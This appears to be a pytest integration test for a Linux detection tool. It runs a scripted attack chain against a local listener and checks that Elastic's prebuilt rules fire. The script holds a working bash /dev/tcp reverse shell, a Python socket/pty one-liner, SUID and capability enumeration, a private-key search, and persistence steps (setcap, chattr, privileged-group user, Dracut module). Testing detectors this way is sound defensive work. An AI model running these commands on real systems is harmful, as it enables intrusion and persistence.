"""A small attack chain run for real on this host, under `vigil watch` with Elastic's prebuilt
Linux rules: each step raises the prebuilt rule written for it.

A reverse shell (``bash -i`` on a TCP socket to a listener on a local, non-loopback address),
a shell started from a copy of bash in /tmp that connects out, a Python one-liner with a
socket and ``pty``, ``getcap -r /`` and a SUID search as ``nobody``, ``whoami``, a private key
search, ``chattr +i``, ``setcap``, an OpenSSL password hash, a user added to a privileged group,
a hidden file, and a Dracut module dropped by ``cp`` and run. Sequence rules join the network
and process events on ``process.entity_id`` and ``process.parent.entity_id``.

Needs root, eBPF and fanotify; skipped with the reason otherwise. Slow (about a minute: the
rules load and compile once).
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from live_watch import alerted_rules, ebpf_refusal, read_ndjson

REPO = Path(__file__).resolve().parents[2]
DRACUT = Path("/usr/lib/dracut/modules.d/97vigil-chain")
USER = "vigilchain"

CHAIN = r"""
set -u
IP=$1; PORT=$2; D=$3; T=$4
# Reverse shell: the connecting shell starts `bash -i` on the socket.
bash -c "exec 3<>/dev/tcp/$IP/$PORT; bash -i <&3 >&3 2>&3"
# A shell copied to /tmp connects out, then becomes a shell.
cp /bin/bash "$T/vigil-chain-sh"
"$T/vigil-chain-sh" -c "exec 3<>/dev/tcp/$IP/$PORT; exec bash -c true"
# An interpreter one-liner with a socket and pty.
python3 -c "import socket,pty;s=socket.socket();s.connect(('$IP',$PORT));s.close();pty.spawn" || true
# Discovery as an unprivileged user.
setpriv --reuid=65534 --regid=65534 --clear-groups getcap -r / >/dev/null 2>&1 || true
setpriv --reuid=65534 --regid=65534 --clear-groups find / -xdev -maxdepth 2 -perm -4000 >/dev/null 2>&1 || true
find /root/ -maxdepth 1 -name id_rsa >/dev/null 2>&1 || true
which nmap nc ncat netcat socat gcc python3 perl curl wget >/dev/null 2>&1 || true
# Persistence and defence evasion, on scratch files only.
touch "$T/victim"; chattr +i "$T/victim" 2>/dev/null || true; chattr -i "$T/victim" 2>/dev/null || true
cp /bin/true "$T/capped"; setcap cap_net_raw+ep "$T/capped" 2>/dev/null || true
openssl passwd -1 -salt vigil secret >/dev/null
useradd -M -s /usr/sbin/nologin $USER_NAME 2>/dev/null && usermod -a -G video $USER_NAME; userdel $USER_NAME 2>/dev/null || true
(cd /tmp && touch .vigil-chain-hidden && rm -f .vigil-chain-hidden)
mkdir -p "$D"; cp /bin/true "$D/module-setup.sh"; "$D/module-setup.sh"
"""

EXPECTED = {
    "Potential Reverse Shell",  # sequence: network by entity_id, then bash -i by parent.entity_id
    "Potential Reverse Shell via Suspicious Binary",  # sequence of three on process.entity_id
    "Potential Reverse Shell Activity via Terminal",
    "Potential Reverse Shell via Suspicious Child Process",
    "Process Capability Enumeration",
    "SUID/SGUID Enumeration Detected",
    "Creation of Hidden Files and Directories via CommandLine",
    "Private Key Searching Activity",
    "File made Immutable by Chattr",
    "Process Capability Set via setcap Utility",
    "OpenSSL Password Hash Generation",
    "Linux User Added to Privileged Group",
    "Dracut Module Creation",
}


def _local_address() -> str | None:
    """An address of this host that is not loopback (rules leave 127.0.0.0/8 out)."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("198.51.100.1", 9))  # no packet is sent for a UDP connect
            ip = s.getsockname()[0]
    except OSError:
        return None
    return None if ip.startswith("127.") else ip


def _reason(shared: Path) -> str | None:
    refusal = ebpf_refusal()
    if refusal:
        return refusal
    for tool in ("setpriv", "getcap", "setcap", "chattr", "openssl", "useradd", "usermod"):
        if shutil.which(tool) is None:
            return f"{tool} is not installed"
    if _local_address() is None:
        return "no non-loopback IPv4 address"
    return None


class _Listener:
    """A TCP server on all addresses: sends two commands to whatever shell connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with contextlib.suppress(OSError), conn:
                conn.sendall(b"id\nexit\n")
                conn.settimeout(5)
                while conn.recv(4096):
                    pass

    def close(self) -> None:
        self.sock.close()


@pytest.fixture(scope="module")
def chain_run(shared, tmp_path_factory):
    reason = _reason(shared)
    if reason:
        pytest.skip(reason)
    tmp = tmp_path_factory.mktemp("chain")
    scratch = Path(tmp / "scratch")
    scratch.mkdir()
    events, alerts = tmp / "events.ndjson", tmp / "alerts.ndjson"
    rules = shared / "detection-rules"
    cmd = [sys.executable, "-m", "vigil.cli", "watch", "--format", "ndjson", "--events-out", str(events)]
    cmd += ["--output", str(alerts), "--path", str(DRACUT.parent)]
    for sub in ("rules/linux", "rules/cross-platform", "rules_building_block"):
        cmd += ["--rules", str(rules / sub)]
    listener = _Listener()
    env = dict(os.environ, PYTHONPATH=str(REPO / "src"), USER_NAME=USER)
    watch = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env)
    err = b""
    try:
        deadline = time.monotonic() + 300
        while b"watching" not in (line := watch.stderr.readline()):
            err += line
            assert line and time.monotonic() < deadline, f"vigil watch did not start: {err.decode()}"
        ip = _local_address()
        subprocess.run(
            ["bash", "-c", CHAIN, "chain", ip, str(listener.port), str(DRACUT), str(scratch)],
            env=env,
            timeout=300,
            check=False,
        )
        # The alerts come as the engine reaches the events: wait for them, generously.
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline and not EXPECTED <= alerted_rules(alerts):
            time.sleep(1)
    finally:
        watch.send_signal(signal.SIGTERM)
        try:
            _, rest = watch.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            watch.kill()
            _, rest = watch.communicate()
        listener.close()
        shutil.rmtree(DRACUT, ignore_errors=True)
        subprocess.run(["userdel", USER], capture_output=True, check=False)
    return read_ndjson(events), read_ndjson(alerts), (err + rest).decode()


def test_each_step_raises_its_prebuilt_rule(chain_run):
    _events, alerts, err = chain_run
    names = {a["kibana.alert.rule.name"] for a in alerts}
    assert EXPECTED <= names, f"missing: {sorted(EXPECTED - names)}; raised: {sorted(names)}\n{err}"
    assert len(names & EXPECTED) >= 10
    assert "kernel-lost=0" in err.strip().splitlines()[-1]


def test_reverse_shell_sequence_joins_on_entity_ids(chain_run):
    """`bash -i` is the child of the shell that connected: parent.entity_id equals its id."""
    events, _alerts, _err = chain_run
    connects = [
        e
        for e in events
        if e["event"]["action"] == "connection_attempted" and e["process"].get("name") == "bash"
    ]
    interactive = [
        e for e in events if e["event"]["action"] == "exec" and e["process"].get("args") == ["bash", "-i"]
    ]
    assert connects and interactive
    assert {e["process"]["parent"]["entity_id"] for e in interactive} & {
        e["process"]["entity_id"] for e in connects
    }


def test_dracut_drop_is_attributed_to_cp_with_the_same_entity_id(chain_run):
    events, _alerts, _err = chain_run
    drops = [e for e in events if e.get("file", {}).get("path") == f"{DRACUT}/module-setup.sh"]
    assert drops and drops[0]["process"]["name"] == "cp"
    cp_execs = [
        e
        for e in events
        if e["event"]["action"] == "exec" and e["process"]["entity_id"] == drops[0]["process"]["entity_id"]
    ]
    assert cp_execs and cp_execs[0]["process"]["args"][-1] == f"{DRACUT}/module-setup.sh"
    assert drops[0]["process"]["parent"]["entity_id"] == cp_execs[0]["process"]["parent"]["entity_id"]
